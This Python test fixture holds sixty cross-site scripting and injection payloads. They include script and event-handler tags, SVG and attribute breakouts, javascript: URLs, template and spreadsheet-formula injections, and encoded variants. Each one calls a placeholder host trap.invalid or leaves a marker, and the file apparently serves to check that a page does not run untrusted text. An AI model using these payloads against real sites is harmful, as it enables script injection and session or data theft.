"""Sixty texts of a stranger that a careless page would run, follow or build into itself (G30). All written for this.

``N`` is the number of the text: what runs asks for ``http://trap.invalid/N``, calls ``alert``, or leaves an element or
an attribute with the word ``yctrap`` in the page. As text they may be shown as often as one likes.
"""

HOST = "trap.invalid"
MARK = "yctrap"
_WRITTEN = r"""
<script>alert(N)</script>
<script src=//trap.invalid/N></script>
</script><script>document.body.id='yctrapN'</script>
<ScRiPt>alert(N)</sCrIpT>
<scr<script>ipt>alert(N)</scr</script>ipt>
<script>fetch('http://trap.invalid/N')</script>
<img src=http://trap.invalid/N>
<img src=x onerror=alert(N)>
<img/src=x/onerror=alert(N)//
<image href=http://trap.invalid/N>
<svg onload=alert(N)>
<svg><script>alert(N)</script></svg>
<svg><a xlink:href=javascript:alert(N)><text y=20>看</text></a></svg>
<svg><animate onbegin=alert(N) attributeName=x dur=1s>
<svg><foreignObject><iframe src=//trap.invalid/N></iframe></foreignObject></svg>
<math><mtext><img src=x onerror=alert(N)></mtext></math>
<body onload=alert(N)>
<iframe src=http://trap.invalid/N></iframe>
<iframe srcdoc='<script>parent.alert(N)</script>'></iframe>
<object data=http://trap.invalid/N></object>
<embed src=http://trap.invalid/N>
<link rel=stylesheet href=http://trap.invalid/N>
<style>@import 'http://trap.invalid/N';</style>
<style>body{background:url(http://trap.invalid/N)}</style>
<base href=http://trap.invalid/N/>
<meta http-equiv=refresh content='0;url=http://trap.invalid/N'>
<form action=http://trap.invalid/N><button id=yctrapN>点我</button></form>
<input autofocus onfocus=alert(N)>
<details open ontoggle=alert(N)><summary>细</summary></details>
<video src=http://trap.invalid/N onerror=alert(N)></video>
<audio src=x onerror=alert(N)>
<marquee onstart=alert(N)>走</marquee>
<yctrap id=yctrapN>
<template><yctrap></template><yctrap-N>
" onmouseover="alert(N)" yctrap="
' onmouseover='alert(N)' yctrap='
" autofocus onfocus=alert(N) yctrap="
"><img src=http://trap.invalid/N>
'><yctrap id=yctrapN>
--><yctrap id=yctrapN><!--
]]><yctrap id=yctrapN>
</textarea><yctrap id=yctrapN>
</title><yctrap id=yctrapN>
</select></option><yctrap id=yctrapN>
javascript:alert(N)
JaVaScRiPt&colon;alert(N)
data:text/html,<script>alert(N)</script>
//trap.invalid/N
[看](javascript:alert(N)) ![图](http://trap.invalid/N)
<http://trap.invalid/N> **<yctrap>**
{{ 7|add:N }}{% load static %}{{ request.user.password }}
${alert(N)} #{alert(N)} <%= alert(N) %>
{"a":"</script><script>alert(N)</script>"}
\u003cscript\u003ealert(N)\u003c/script\u003e
&lt;script&gt;alert(N)&lt;/script&gt;
%3Cscript%3Ealert(N)%3C/script%3E
=HYPERLINK("http://trap.invalid/N","看")
＜script＞alert(N)＜/script＞
"‮gpj.<img src=x onerror=alert(N)>
' hx-get=http://trap.invalid/N hx-trigger=load yctrap='
"""
PAYLOADS = tuple(
    line.replace("N", str(number)) for number, line in enumerate(_WRITTEN.strip().splitlines(), 1)
)


def together(longest: int) -> list[str]:
    """All of them in as few texts as fit into a field of so many letters; what is longer stays out."""
    texts = [""]
    for one in PAYLOADS:
        if len(one) > longest:
            continue
        if len(texts[-1]) + len(one) + 1 > longest:
            texts.append("")
        texts[-1] = f"{texts[-1]} {one}".strip()
    return texts
